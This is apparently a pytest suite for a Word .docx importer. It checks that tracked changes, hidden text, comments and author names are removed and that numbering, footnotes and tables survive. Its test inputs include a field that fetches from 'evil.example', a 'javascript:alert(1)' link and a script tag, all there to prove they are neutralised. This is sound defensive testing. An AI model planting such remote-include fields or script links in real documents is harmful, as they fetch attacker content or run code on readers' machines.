"""What Word hides in a file, and what must come out of it."""

from __future__ import annotations

import pytest

from intranet.documents.importing import Imported, plain_text, read
from tests.rooms.importing.packages import (
    STRICT,
    STYLES,
    W,
    docx,
    levels,
    linked_to,
    numbering,
    p,
    packed,
    r,
    related_to,
)


def of(body: str, **parts: str) -> Imported:
    return read(docx(body, **parts), "a.docx")


def text(body: str, **parts: str) -> list[str]:
    return plain_text(of(body, **parts)).split("\n")


def codes(imported: Imported) -> dict[str, int]:
    return {remark.code: remark.count for remark in imported.remarks}


FIELD = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
LONG = "Members of the circle meet four times a year, and they come themselves."


def test_word__accepts_insertions_and_carries_out_deletions_without_names() -> None:
    body = p(
        raw=r("Members may ")
        + f'<w:ins w:id="1" w:author="Aisha Secret">{r("speak")}</w:ins>'
        + '<w:del w:id="2" w:author="Bob Secret"><w:r><w:delText>shout</w:delText></w:r></w:del>'
        + f'<w:moveFrom w:id="3" w:author="Bob Secret">{r("gone")}</w:moveFrom>'
        + f'<w:moveTo w:id="4" w:author="Bob Secret">{r(" freely.")}</w:moveTo>'
    )
    imported = of(body)
    assert plain_text(imported) == "Members may speak freely."
    assert codes(imported) == {"inserted": 2, "deleted": 2, "no-title": 1}
    assert "Secret" not in repr(imported) + "".join(str(remark.text) for remark in imported.remarks)


def test_word__joins_paragraphs_whose_break_was_deleted() -> None:
    deleted = f'<w:p><w:pPr><w:rPr><w:del w:id="1"/></w:rPr></w:pPr>{r("One ")}</w:p>'
    assert text(deleted + p("sentence.")) == ["One sentence."]


def test_word__drops_a_deleted_row() -> None:
    row = "<w:tr><w:trPr>{}</w:trPr><w:tc>{}</w:tc><w:tc>{}</w:tc></w:tr>"
    rows = row.format("", p("a"), p("b")) + row.format('<w:del w:id="1"/>', p("c"), p("d"))
    assert text(f"<w:tbl>{rows}</w:tbl>") == ["a\tb"]


def test_word__reads_a_box_once_though_it_is_stored_twice() -> None:
    inside = f"<w:txbxContent>{p('In the box.')}</w:txbxContent>"
    raw = (
        f"<w:r><mc:AlternateContent><mc:Choice Requires='wps'><w:drawing><wps:txbx>{inside}</wps:txbx></w:drawing>"
        f"</mc:Choice><mc:Fallback><w:pict><v:textbox>{inside}</v:textbox></w:pict></mc:Fallback>"
        "</mc:AlternateContent></w:r>"
    )
    assert text(p("Beside.", raw=raw)) == ["Beside.", "In the box."]


def test_word__keeps_the_result_of_a_field_and_follows_nothing() -> None:
    fetch = '<w:r><w:instrText>INCLUDETEXT "http://evil.example/a.docx"</w:instrText></w:r>'
    raw = FIELD.format("begin") + fetch + FIELD.format("separate") + r("result.") + FIELD.format("end")
    imported = of(p("The ", raw=raw))
    assert plain_text(imported) == "The result."
    assert codes(imported)["fields"] == 1
    assert "evil" not in repr(imported.blocks)


def test_word__keeps_a_safe_link_and_the_words_of_an_unsafe_one() -> None:
    links = linked_to("good", "https://example.org/a?b=1&amp;c=2") + linked_to("bad", "javascript:alert(1)")
    body = p(
        raw='<w:hyperlink r:id="good">'
        + r("here")
        + '</w:hyperlink><w:hyperlink r:id="bad">'
        + r(" there.")
        + "</w:hyperlink>"
    )
    imported = of(body, links=links)
    assert imported.blocks[0]["value"] == '<p><a href="https://example.org/a?b=1&amp;c=2">here</a> there.</p>'
    assert codes(imported)["addresses"] == 1


def test_word__drops_hidden_text_comments_pictures_and_margins_and_counts_them() -> None:
    described = '<wp:docPr id="1" name="x" descr="Logo of the circle"/>'
    picture = f"<w:r><w:drawing><wp:inline>{described}<a:blip/></wp:inline></w:drawing></w:r>"
    body = p("Seen.", raw=r("Unseen.", "<w:vanish/>") + '<w:r><w:commentReference w:id="0"/></w:r>' + picture)
    imported = of(
        body, comments=f'<w:comment w:id="0" w:author="Bob Secret">{p("Remove her.")}</w:comment>', header1=p("Draft")
    )
    assert plain_text(imported) == "Seen."
    assert codes(imported) == {"hidden": 1, "comments": 1, "pictures": 1, "margins": 1, "no-title": 1}
    assert "Logo of the circle" in str(next(one.text for one in imported.remarks if one.code == "pictures"))
    assert "Secret" not in repr(imported)


def test_word__counts_letters_and_roman_numbers_again() -> None:
    plan = levels(("upperRoman", "%1."), ("lowerLetter", "%2."), ("lowerRoman", "%3."))
    body = p("First", "H1", (1, 0)) + p("One.", number=(1, 1)) + p("Deep.", number=(1, 2)) + p("Two.", number=(1, 1))
    imported = of(body + p("Second", "H1", (1, 0)) + p("Anew.", number=(1, 1)), numbering=numbering(plan))
    assert imported.numbering == "roman"
    assert plain_text(imported).split("\n") == ["I. First", "a. One.", "i. Deep.", "b. Two.", "II. Second", "a. Anew."]


def test_word__counts_decimals_again() -> None:
    plan = levels(("decimal", "%1."), ("decimal", "%1.%2"), ("decimal", "%1.%2.%3"))
    body = "".join(
        p(line, "H1" if not depth else "", (1, depth))
        for line, depth in (("A", 0), ("b.", 1), ("c.", 2), ("D", 0), ("e.", 1))
    )
    imported = of(body, numbering=numbering(plan))
    assert imported.numbering == "decimal"
    assert plain_text(imported).split("\n") == ["1. A", "1.1 b.", "1.1.1 c.", "2. D", "2.1 e."]


def test_word__says_when_the_form_of_a_number_changes() -> None:
    plan = levels(("upperRoman", "%1."), ("lowerLetter", "(%2)"))
    body = p("First", "H1", (1, 0)) + p("One.", number=(1, 1)) + p("Second", "H1", (1, 0))
    imported = of(body, numbering=numbering(plan))
    assert codes(imported)["numbers-house"] == 1


def test_word__keeps_numbers_it_cannot_count_as_text() -> None:
    plan = levels(("decimal", "%1.")).replace('<w:start w:val="1"/>', '<w:start w:val="3"/>')
    imported = of(p("Third", "H1", (1, 0)) + p(LONG) + p("Fourth", "H1", (1, 0)) + p(LONG), numbering=numbering(plan))
    assert imported.numbering == "none"
    assert [block["value"]["text"] for block in imported.blocks if block["type"] == "heading"] == [
        "3. Third",
        "4. Fourth",
    ]
    assert codes(imported)["numbers-literal"] == 2


def test_word__continues_lists_that_share_a_plan_and_restarts_where_told() -> None:
    plan = numbering(levels(("decimal", "%1.")))
    override = '<w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride>'
    again = f'<w:num w:numId="2"><w:abstractNumId w:val="0"/>{override}</w:num>'
    body = p("a", number=(1, 0)) + p("b", number=(1, 0)) + p(LONG) + p("c", number=(2, 0)) + p("d", number=(2, 0))
    assert text(body, numbering=plan + again) == ["1. a", "2. b", LONG, "1. c", "2. d"]


def test_word__makes_bullets_a_list_with_depth() -> None:
    plan = numbering(levels(("bullet", "o"), ("bullet", "o")))
    imported = of(p("Bring:") + p("pen", number=(1, 0)) + p("blue", number=(1, 1)), numbering=plan)
    items = imported.blocks[-1]["value"]
    assert (items["ordered"], [item["value"]["depth"] for item in items["items"]]) == (False, [0, 1])


def test_word__finds_headings_by_style_name_inheritance_and_united_nations_habit() -> None:
    body = p("Terms", "Title") + p("One", "H1") + p(LONG) + p("Two", "Un") + p("Three", "MyHead") + p("Small", "H2")
    imported = of(body)
    assert imported.title == "Terms"
    headings = [
        (block["value"]["text"], block["value"]["level"]) for block in imported.blocks if block["type"] == "heading"
    ]
    assert headings == [("One", "2"), ("Two", "3"), ("Three", "2"), ("Small", "3")]


def test_word__places_footnotes_after_the_block_and_numbers_them_by_place() -> None:
    note = '<w:footnote w:id="{}">' + "{}</w:footnote>"
    ref = '<w:r><w:footnoteReference w:id="{}"/></w:r>'
    body = p("First", raw=ref.format(9) + r(".")) + p("Then", raw=ref.format(2) + r("."))
    said = text(body, footnotes=note.format(2, p("Two.")) + note.format(9, p("Nine.")))
    assert said == ["First[^1].", "[^1] Nine.", "Then[^2].", "[^2] Two."]


def test_word__keeps_tables_with_merged_cells_and_numbers_in_cells() -> None:
    cell = "<w:tc><w:tcPr>{}</w:tcPr>{}</w:tc>"
    rows = (
        "<w:tr><w:trPr><w:tblHeader/></w:trPr>" + cell.format('<w:gridSpan w:val="2"/>', p("Head")) + "</w:tr><w:tr>"
        + cell.format("", p("x", number=(1, 0)) + p("y", number=(1, 0))) + cell.format("", p("z")) + "</w:tr>"
    )  # fmt: skip
    table = of(f"<w:tbl>{rows}</w:tbl>", numbering=numbering(levels(("lowerLetter", "%1)")))).blocks[0]["value"]
    assert table["data"] == [["Head", ""], ["a) x\nb) y", "z"]]
    assert (table["first_row_is_table_header"], table["table_header_choice"]) == (True, "row")


def test_word__opens_a_table_of_one_column() -> None:
    rows = "".join(f"<w:tr><w:tc>{p(line)}</w:tc></w:tr>" for line in ("One.", "Two."))
    assert [block["type"] for block in of(f"<w:tbl>{rows}</w:tbl>").blocks] == ["paragraph", "paragraph"]


def test_word__reads_text_in_wrappers_nobody_expects() -> None:
    body = f"<w:sdt><w:sdtContent>{p('In a form.')}</w:sdtContent></w:sdt>"
    body += p(raw=f'<w:dir w:val="rtl"><w:smartTag>{r("Wrapped.")}</w:smartTag></w:dir>')
    body += p(
        raw="<m:oMath><m:r><m:t>a+b</m:t></m:r></m:oMath>" + '<w:r><w:sym w:font="Wingdings" w:char="F0FE"/></w:r>'
    )
    assert text(body) == ["In a form.", "Wrapped.", "a+b☑"]


def test_word__reads_the_strict_form() -> None:
    plain = docx(p("Strictly said."))
    parts = {"word/document.xml": f'<w:document xmlns:w="{STRICT}"><w:body>{p("Strictly said.")}</w:body></w:document>'}
    imported = read(docx(p("x"), extra=parts), "a.docx")
    assert plain_text(imported) == plain_text(read(plain, "a.docx"))


def test_word__keeps_looks_and_escapes_everything_else() -> None:
    body = p(
        raw=r("plain ") + r("&lt;script&gt;", "<w:b/>") + r(" H") + r("2", '<w:vertAlign w:val="subscript"/>') + r("O.")
    )
    assert of(body).blocks[0]["value"] == "<p>plain <b>&lt;script&gt;</b> H<sub>2</sub>O.</p>"


def test_word__keeps_a_signing_line_exactly() -> None:
    line = "Name: _______________________ Signature: _______________________ Date: ______________"
    imported = of(p("I agree.") + p(line) + p("Place: ____________"))
    assert imported.blocks[-1]["type"] == "signature"
    assert imported.blocks[-1]["value"]["text"] == f"{line}\nPlace: ____________"


@pytest.mark.parametrize("missing", ["word/styles.xml", "word/_rels/document.xml.rels", "_rels/.rels"])
def test_word__reads_a_careless_package(missing: str) -> None:
    parts = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": f"<Relationships>{related_to('officeDocument', '/word/document.xml')}</Relationships>",
        "word/_rels/document.xml.rels": f"<Relationships>{related_to('styles', 'styles.xml')}</Relationships>",
        "word/styles.xml": f'<w:styles xmlns:w="{W}">{STYLES}</w:styles>',
        "word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{p("Still here.")}</w:body></w:document>',
    }
    del parts[missing]
    assert plain_text(read(packed(dict(parts)), "a.docx")) == "Still here."


def test_word__survives_numbers_that_are_none() -> None:
    body = (
        p("x", number=(99, 0))
        + f'<w:p><w:pPr><w:numPr><w:ilvl w:val="²"/><w:numId w:val="1"/></w:numPr></w:pPr>{r("y")}</w:p>'
    )
    body += '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999"/></w:tcPr>' + p("z") + "</w:tc></w:tr></w:tbl>"
    imported = of(body, numbering=numbering(levels(("decimal", "%1."))))
    assert "z" in plain_text(imported)
